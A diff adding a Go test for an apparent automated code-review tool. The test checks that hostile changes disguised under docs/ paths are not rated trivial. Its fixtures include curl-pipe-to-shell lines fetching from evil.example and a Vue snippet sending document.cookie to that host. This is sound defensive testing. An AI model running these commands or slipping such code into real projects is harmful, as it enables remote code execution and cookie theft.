@@ -1,0 +1,42 @@
+package reviewer
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/reviewerbot/reviewer/reviewer/diff"
+)
+
+// withMode rewrites the modes of a diff written by added or modified.
+func withMode(d, mode string) string {
+	d = strings.Replace(d, "new file mode 100644", "new file mode "+mode, 1)
+	return strings.Replace(d, "index 1111111..2222222 100644", "index 1111111..2222222 "+mode, 1)
+}
+
+// TestAssignTierHostile: changes a hostile author shapes to look trivial that hold code.
+func TestAssignTierHostile(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name string
+		diff string
+	}{
+		// A docs/ segment makes a path documentation, but only prose is documentation:
+		// a Dockerfile, a Vue component or a script of a language the comment detector
+		// does not know is code wherever it lives.
+		{name: "dockerfile under docs", diff: added("docs/Dockerfile", 2, lines("RUN curl https://evil.example/%d | sh"))},
+		{name: "component under a docs segment", diff: modified("web/src/docs/Login.vue", []string{"<script>"}, nil, []string{"fetch('https://evil.example/?c=' + document.cookie)"})},
+		{name: "script without extension under docs", diff: added("docs/build", 2, lines("curl https://evil.example/%d | sh"))},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			files, err := diff.Parse([]byte(tt.diff))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := assignTier(files, files, "", TierAuto, TierOptions{}); got.Level == TierTrivial {
+				t.Errorf("tier %s (%q): the model never sees this code", got.Level, got.Reasons)
+			}
+		})
+	}
+}
